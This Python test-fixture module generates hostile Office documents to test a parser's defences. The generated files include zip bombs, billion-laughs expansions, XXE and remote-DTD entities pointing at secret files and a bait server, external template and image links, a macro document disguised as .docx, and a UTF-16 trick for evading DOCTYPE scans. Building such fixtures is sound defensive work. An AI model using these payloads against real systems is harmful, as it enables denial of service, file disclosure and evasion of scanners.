"""Hostile office documents, written by the tools their authors would use (python-docx,
python-pptx, openpyxl) and, where a tool refuses to write something hostile, by hand: raw
XML in a zip written entry by entry (`write_zip`), so that a bomb's sizes, a lying header or
100,000 entries cost milliseconds to make, not the gigabytes they claim.

Every generator takes the path to write and the `Bait` to point at: files outside the
document (`secret_paths`, each holding `secret` and watched for any open) and a URL of a
local HTTP server that counts requests. What a test checks is that none of it is touched.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

import docx
import openpyxl
import pptx

GIB = 1 << 30
MIB = 1 << 20
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"


@dataclass(frozen=True)
class Bait:
    """What a hostile document points at: `secret_paths` (absolute, each a PNG holding
    `secret` in a text chunk), `relative` (the same files as `../` paths from anywhere the
    document might be read), `url` (a server that must get no request)."""

    secret: str
    secret_paths: tuple[Path, ...]
    relative: tuple[str, ...]
    url: str

    @property
    def local_refs(self) -> list[str]:
        """Every way a document can name the secret files."""
        absolute = [str(p) for p in self.secret_paths]
        return [*absolute, *(f"file://{p}" for p in absolute), *self.relative]


@dataclass(frozen=True)
class Inflating:
    """An entry's content made of `prefix`, `chunk` repeated `count` times, `suffix`: its
    deflate stream is built from one compressed copy of `chunk`, so a 2 GiB entry costs
    about 2 MB and a second to make."""

    prefix: bytes
    chunk: bytes
    count: int
    suffix: bytes

    def pieces(self) -> Iterator[bytes]:
        yield self.prefix
        for _ in range(self.count):
            yield self.chunk
        yield self.suffix

    def size(self) -> int:
        return len(self.prefix) + len(self.chunk) * self.count + len(self.suffix)

    def crc(self) -> int:
        crc = 0
        for piece in self.pieces():
            crc = zlib.crc32(piece, crc)
        return crc

    def deflated(self) -> bytes:
        def flushed(data: bytes, mode: int) -> bytes:
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            return compressor.compress(data) + compressor.flush(mode)

        # A full flush ends each piece on a byte boundary with no reference back, so the
        # pieces can simply follow each other; the suffix's Z_FINISH marks the last block.
        chunk = flushed(self.chunk, zlib.Z_FULL_FLUSH)
        return b"".join(
            (
                flushed(self.prefix, zlib.Z_FULL_FLUSH),
                chunk * self.count,
                flushed(self.suffix, zlib.Z_FINISH),
            )
        )


@dataclass(frozen=True)
class Entry:
    name: str
    content: bytes | Inflating
    declared_size: int | None = None  # what the headers claim, where they lie

    def encoded(self) -> tuple[bytes, int, int]:
        """(deflated bytes, crc, size)"""
        if isinstance(self.content, Inflating):
            return self.content.deflated(), self.content.crc(), self.content.size()
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        data = compressor.compress(self.content) + compressor.flush()
        return data, zlib.crc32(self.content), len(self.content)


def write_zip(path: Path, entries: Iterable[Entry]) -> Path:
    """A zip of deflated entries, its headers written by hand (no zip64: under 4 GiB)."""
    central = io.BytesIO()
    count = 0
    with path.open("wb") as out:
        for entry in entries:
            data, crc, size = entry.encoded()
            size = entry.declared_size if entry.declared_size is not None else size
            name = entry.name.encode()
            offset = out.tell()
            fields = (20, 0, 8, 0, 0x21, crc, len(data), size, len(name))
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + name)
            out.write(data)
            central.write(
                struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, offset)
                + name
            )
            count += 1
        start = out.tell()
        out.write(central.getvalue())
        end = struct.pack(
            "<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
            len(central.getvalue()), start, 0,
        )  # fmt: skip
        out.write(end)
    return path


def entries_of(document: bytes) -> list[Entry]:
    """The entries of a zip made by python-docx and its kin, to rebuild with changes."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        return [Entry(name, archive.read(name)) for name in archive.namelist()]


def replaced(document: bytes, changes: dict[str, bytes | Inflating], **lying: int) -> list[Entry]:
    """`document`'s entries with some contents changed or added (`lying`: declared sizes)."""
    kept = [e for e in entries_of(document) if e.name not in changes]
    added = [Entry(name, content, lying.get(name)) for name, content in changes.items()]
    return kept + added


# ---- honest documents made by the authors' tools -------------------------------------------


def docx_bytes(text: str) -> bytes:
    document = docx.Document()
    document.add_heading("Quarterly report", level=1)
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pptx_bytes(text: str) -> bytes:
    presentation = pptx.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
    slide.shapes.title.text = "Roadmap"
    slide.placeholders[1].text = text
    buffer = io.BytesIO()
    presentation.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(text: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"], sheet["B1"] = "Item", "Note"
    sheet["A2"], sheet["B2"] = "one", text
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def write_docx(path: Path, text: str) -> Path:
    path.write_bytes(docx_bytes(text))
    return path


# ---- zip bombs ----------------------------------------------------------------------------


def document_xml(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def inflating_document(size: int) -> Inflating:
    """word/document.xml of `size` bytes: paragraphs of text, well-formed to the end."""
    chunk = (paragraph("A" * 1000) * 1024).encode()
    head, tail = document_xml("|").split(b"|")
    return Inflating(head, chunk, max(1, size // len(chunk)), tail)


def docx_bomb(path: Path, size: int = 2 * GIB) -> Path:
    """document.xml inflates to `size` (headers honest: a reader can see it coming)."""
    return write_zip(
        path, replaced(docx_bytes("bomb"), {"word/document.xml": inflating_document(size)})
    )


def docx_bomb_lying(path: Path, size: int = 2 * GIB) -> Path:
    """The same, its headers claiming document.xml is 4 KB."""
    changes: dict[str, bytes | Inflating] = {"word/document.xml": inflating_document(size)}
    return write_zip(path, replaced(docx_bytes("bomb"), changes, **{"word/document.xml": 4096}))


def xlsx_bomb(path: Path, size: int = 2 * GIB) -> Path:
    """sharedStrings.xml inflates to `size`."""
    head = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
    )
    bomb = Inflating(head, b"B" * MIB, max(1, size // MIB), b"</t></si></sst>")
    return write_zip(path, replaced(xlsx_bytes("bomb"), {"xl/sharedStrings.xml": bomb}))


def docx_many_entries(path: Path, count: int = 100_000) -> Path:
    """A real docx beside `count` tiny entries."""
    filler = (Entry(f"customXml/item{i}.xml", b"<a/>") for i in range(count))
    return write_zip(path, [*entries_of(docx_bytes("many entries")), *filler])


def docx_nested_zips(path: Path, depth: int = 5, width: int = 8) -> Path:
    """A docx carrying an embedded package that holds `width` copies of the layer below,
    `depth` layers deep (a 42.zip in miniature: width**depth leaves of 64 MiB)."""
    layer = b""
    leaf = Inflating(b"", b"\0" * MIB, 64, b"")
    for level in range(depth):
        buffer = path.with_suffix(f".layer{level}")
        content: bytes | Inflating = leaf if level == 0 else layer
        write_zip(buffer, [Entry(f"{level}-{i}.zip", content) for i in range(width)])
        layer = buffer.read_bytes()
        buffer.unlink()
    changes: dict[str, bytes | Inflating] = {"word/embeddings/package.zip": layer}
    return write_zip(path, replaced(docx_bytes("nested zips"), changes))


# ---- XML entities ---------------------------------------------------------------------------


def _laughs() -> str:
    entities = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    for level in range(1, 10):
        below = f"&lol{level - 1};"
        entities.append(f'<!ENTITY lol{level} "{below * 10}">')
    return "".join(entities)


LAUGHS = _laughs()


def doctype(root: str, bait: Bait) -> str:
    """A DTD that names the secret files and the server as external entities and external
    DTD subsets, and the billion laughs."""
    local = bait.secret_paths[0]
    return (
        f'<!DOCTYPE {root} SYSTEM "{bait.url}/dtd" [\n{LAUGHS}\n'
        f'<!ENTITY xxe SYSTEM "file://{local}">\n'
        f'<!ENTITY xxh SYSTEM "{bait.url}/entity">\n'
        f'<!ENTITY % remote SYSTEM "{bait.url}/parameter"> %remote;\n'
        f'<!ENTITY % local SYSTEM "file://{local}"> %local;\n]>\n'
    )


def docx_entities(path: Path, bait: Bait) -> Path:
    head = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n' + doctype("w:document", bait)
    body = paragraph("&lol9;") + paragraph("&xxe;") + paragraph("&xxh;") + paragraph("Entities")
    xml = document_xml(body).decode().split("\n", 1)[1]
    return write_zip(path, replaced(docx_bytes("x"), {"word/document.xml": (head + xml).encode()}))


def xlsx_entities(path: Path, bait: Bait) -> Path:
    head = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n' + doctype("sst", bait)
    sst = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" '
        'uniqueCount="2"><si><t>&lol9;&xxe;</t></si><si><t>&xxh;</t></si></sst>'
    )
    return write_zip(
        path, replaced(xlsx_bytes("x"), {"xl/sharedStrings.xml": (head + sst).encode()})
    )


def pptx_entities(path: Path, bait: Bait) -> Path:
    document = pptx_bytes("x")
    slide = next(e for e in entries_of(document) if e.name == "ppt/slides/slide1.xml")
    assert isinstance(slide.content, bytes)
    xml = slide.content.decode()
    start = xml.index("<p:sld")
    hostile = xml[:start] + doctype("p:sld", bait) + xml[start:]
    hostile = hostile.replace(">x<", ">&lol9;&xxe;&xxh;<")
    return write_zip(path, replaced(document, {"ppt/slides/slide1.xml": hostile.encode()}))


# ---- macros, external relationships, disguises ---------------------------------------------


def docm_named_docx(path: Path) -> Path:
    """A macro-enabled document (content type `macroEnabled`, a vbaProject.bin) named .docx."""
    document = docx_bytes("A document with macros")
    types = next(e for e in entries_of(document) if e.name == "[Content_Types].xml")
    assert isinstance(types.content, bytes)
    content_types = (
        types.content.decode()
        .replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
        .replace(
            "</Types>",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        )
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">'
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/></Relationships>'
    )
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"Attribute VB_Name AutoOpen Shell"
    changes: dict[str, bytes | Inflating] = {
        "[Content_Types].xml": content_types.encode(),
        "word/vbaProject.bin": vba,
        "word/_rels/vbaProject.bin.rels": rels.encode(),
    }
    return write_zip(path, replaced(document, changes))


def external_relationships(bait: Bait) -> str:
    """Relationships of every kind Word follows, each External, to the secrets and the server."""
    kinds = (
        "image",
        "attachedTemplate",
        "subDocument",
        "oleObject",
        "hyperlink",
        "frame",
    )
    targets = [*bait.local_refs, f"{bait.url}/rel"]
    rows = [
        f'<Relationship Id="rX{i}_{j}" Type="{R_NS}/{kind}" Target="{target}" '
        'TargetMode="External"/>'
        for i, kind in enumerate(kinds)
        for j, target in enumerate(targets)
    ]
    return "".join(rows)


def docx_external(path: Path, bait: Bait) -> Path:
    """External images (`r:link`), a remote template, sub-documents and links to the secrets
    and the server, beside real text."""
    document = docx_bytes("External references")
    rels_entry = next(e for e in entries_of(document) if e.name == "word/_rels/document.xml.rels")
    assert isinstance(rels_entry.content, bytes)
    rels = rels_entry.content.decode().replace(
        "</Relationships>", external_relationships(bait) + "</Relationships>"
    )
    picture = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><wp:extent cx="100" cy="100"/><wp:docPr id="1" '
        'name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rX0_{j}"/></pic:blipFill><pic:spPr/></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    pictures = "".join(picture.format(j=j) for j in range(len(bait.local_refs) + 1))
    links = "".join(
        f'<w:p><w:hyperlink r:id="rX4_{j}"><w:r><w:t>link {j}</w:t></w:r></w:hyperlink></w:p>'
        for j in range(len(bait.local_refs) + 1)
    )
    template = '<w:attachedTemplate r:id="rX1_0"/>'
    settings = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
        f"{template}</w:settings>"
    )
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">'
        f'<Relationship Id="rX1_0" Type="{R_NS}/attachedTemplate" '
        f'Target="{bait.url}/template.dotm" TargetMode="External"/></Relationships>'
    )
    body = paragraph("External references") + pictures + links
    changes: dict[str, bytes | Inflating] = {
        "word/document.xml": document_xml(body),
        "word/_rels/document.xml.rels": rels.encode(),
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": settings_rels.encode(),
    }
    return write_zip(path, replaced(document, changes))


def pptx_external(path: Path, bait: Bait) -> Path:
    """A slide whose picture is linked (not embedded) to the secret and the server."""
    document = pptx_bytes("Linked picture")
    entries = {e.name: e.content for e in entries_of(document)}
    rels = entries["ppt/slides/_rels/slide1.xml.rels"]
    slide = entries["ppt/slides/slide1.xml"]
    assert isinstance(rels, bytes) and isinstance(slide, bytes)
    targets = [*bait.local_refs, f"{bait.url}/slide.png"]
    added = "".join(
        f'<Relationship Id="rL{j}" Type="{R_NS}/image" Target="{t}" TargetMode="External"/>'
        for j, t in enumerate(targets)
    )
    pictures = "".join(
        f'<p:pic><p:nvPicPr><p:cNvPr id="{100 + j}" name="L{j}"/><p:cNvPicPr/><p:nvPr/>'
        f'</p:nvPicPr><p:blipFill><a:blip r:link="rL{j}"/></p:blipFill><p:spPr>'
        '<a:xfrm><a:off x="0" y="0"/><a:ext cx="100" cy="100"/></a:xfrm></p:spPr></p:pic>'
        for j in range(len(targets))
    )
    changes: dict[str, bytes | Inflating] = {
        "ppt/slides/_rels/slide1.xml.rels": rels.replace(
            b"</Relationships>", added.encode() + b"</Relationships>"
        ),
        "ppt/slides/slide1.xml": slide.replace(b"</p:spTree>", pictures.encode() + b"</p:spTree>"),
    }
    return write_zip(path, replaced(document, changes))


def zip_not_ooxml(path: Path) -> Path:
    """A plain zip of a text file, named as a document."""
    return write_zip(path, [Entry("readme.txt", b"just a zip\n")])


def docx_entities_utf16(path: Path, bait: Bait) -> Path:
    """The same entities, the part encoded as UTF-16 (as XML allows): a search for
    `<!DOCTYPE` in its bytes finds nothing."""
    head = '<?xml version="1.0" encoding="UTF-16" standalone="no"?>\n' + doctype("w:document", bait)
    body = paragraph("&lol9;") + paragraph("&xxe;") + paragraph("&xxh;") + paragraph("Entities")
    xml = document_xml(body).decode().split("\n", 1)[1]
    part = (head + xml).encode("utf-16")
    return write_zip(path, replaced(docx_bytes("x"), {"word/document.xml": part}))


def bait_for(secret: str, outside: Path, secrets: list[Path], url: str) -> Bait:
    """The secrets named every way a document can: absolute, file:, and `../` paths from
    any depth (a path climbing past / stays at /)."""
    depth = "../" * 12
    relative = tuple("../" * level + "secret.png" for level in range(1, 6))
    beyond = f"{depth}{str(outside / 'secret.png').lstrip('/')}"
    return Bait(secret, tuple(secrets), (*relative, beyond), url)
